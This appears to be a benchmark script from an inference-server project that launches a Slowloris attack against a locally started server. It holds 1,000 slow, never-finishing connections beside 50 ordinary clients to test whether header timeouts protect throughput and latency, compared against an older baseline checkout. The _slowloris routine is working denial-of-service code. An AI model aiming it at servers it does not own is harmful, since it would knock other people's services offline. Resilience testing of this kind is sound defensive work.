"""Slowloris: 1,000 connections that send a request line and then one header line every 5 s, never
finishing, for 30 s; beside them 50 ordinary closed-loop clients (wrk) on the seed's function (10 ms
per batch of up to 32). Measured without the attack, with it, and with it on `--baseline-tree` (a
checkout before the connection timeouts), one after another on this machine. The figures: the
ordinary clients' throughput and p50/p99, and how many attack connections the server still holds
along the way (the header timeout is 10 s by default).
"""

from __future__ import annotations

import asyncio
import json
import resource
import threading
import time
from pathlib import Path
from typing import Any

from common import RESULTS, inferd_server, parse_args, sim_config, step

ATTACKERS = 1000
TRICKLE_S = 5.0
ATTACK_S = 30.0
CLIENTS = 50


async def _slowloris(url: str, seconds: float, timeline: list[tuple[float, int]]) -> dict[str, int]:
    host, port = url.removeprefix("http://").split(":")
    opened: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    for _ in range(ATTACKERS):
        try:
            opened.append(await asyncio.open_connection(host, int(port)))
        except OSError:
            break
    for _, writer in opened:
        writer.write(b"POST /v1/inference HTTP/1.1\r\nHost: x\r\n")
    closed = [False] * len(opened)
    got_408 = 0

    async def watch(i: int, reader: asyncio.StreamReader) -> None:
        nonlocal got_408
        data = await reader.read(64)
        got_408 += data.startswith(b"HTTP/1.1 408")
        closed[i] = True

    watchers = [asyncio.create_task(watch(i, r)) for i, (r, _) in enumerate(opened)]
    started = time.monotonic()
    line = 0
    while (elapsed := time.monotonic() - started) < seconds:
        timeline.append((round(elapsed, 1), len(opened) - sum(closed)))
        await asyncio.sleep(1.0)
        if elapsed // TRICKLE_S > line:
            line += 1
            for i, (_, writer) in enumerate(opened):
                if not closed[i]:
                    writer.write(b"X-Slow-%d: y\r\n" % line)
    still_open = len(opened) - sum(closed)
    for task in watchers:
        task.cancel()
    for _, writer in opened:
        writer.close()
    return {"opened": len(opened), "open_at_end": still_open, "answered_408": got_408}


def attack(url: str) -> tuple[threading.Thread, dict[str, Any]]:
    """The attack in a thread of its own (its own event loop), started now."""
    outcome: dict[str, Any] = {"timeline": []}

    def run() -> None:
        outcome.update(asyncio.run(_slowloris(url, ATTACK_S, outcome["timeline"])))

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread, outcome


def measure(tree: str | None, attacked: bool, quick: bool) -> dict[str, Any]:
    kw = {"tree": tree} if tree else {}
    with inferd_server(sim_config(latency_ms=10, max_batch=32, max_wait_ms=2), **kw) as url:
        thread, outcome = attack(url) if attacked else (None, {})
        time.sleep(3.0 if attacked else 0.0)  # the attack connections are open before the clients start
        result = step(url, clients=CLIENTS, duration_s=ATTACK_S - 6, warmup_s=1, quick=quick)
        if thread is not None:
            thread.join(ATTACK_S + 30)
    lat = result["latency_ms"]
    return {"req_s": result["achieved_rps"], "p50_ms": lat["p50"], "p99_ms": lat["p99"], "failed": result["errors"],
            "attack": {k: v for k, v in outcome.items() if k != "timeline"},
            "attack_open_over_time": outcome.get("timeline", [])}


if __name__ == "__main__":
    args = parse_args(__doc__, baseline=True)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # 1,000 attack connections from this process
    runs = {"this checkout, no attack": measure(None, False, args.quick),
            "this checkout, slowloris": measure(None, True, args.quick)}
    if args.baseline_tree:
        runs["baseline, slowloris"] = measure(args.baseline_tree, True, args.quick)
    out = Path(args.out_dir or RESULTS)
    out.mkdir(parents=True, exist_ok=True)
    (out / "slowloris.json").write_text(json.dumps({"runs": runs, "note": __doc__}, indent=2) + "\n")
    lines = ["### Slowloris: 1,000 trickling connections beside 50 ordinary clients", "",
             "| server | ordinary req/s | p50 ms | p99 ms | failed | attack connections open at 5 s / 15 s / end | 408s |",
             "|---|---|---|---|---|---|---|"]
    for name, r in runs.items():
        timeline = dict(r["attack_open_over_time"])
        def at(t: float) -> str:
            near = [n for s, n in timeline.items() if s <= t]
            return str(near[-1]) if near else "-"
        opened = f"{at(5)} / {at(15)} / {r['attack'].get('open_at_end', '-')}" if r["attack"] else "-"
        lines.append(f"| {name} | {r['req_s']:,.0f} | {r['p50_ms']:.1f} | {r['p99_ms']:.1f} | {r['failed']} | {opened} | "
                     f"{r['attack'].get('answered_408', '-')} |")
    (out / "slowloris.md").write_text("\n".join(lines) + "\n")
    print("\n".join(lines))
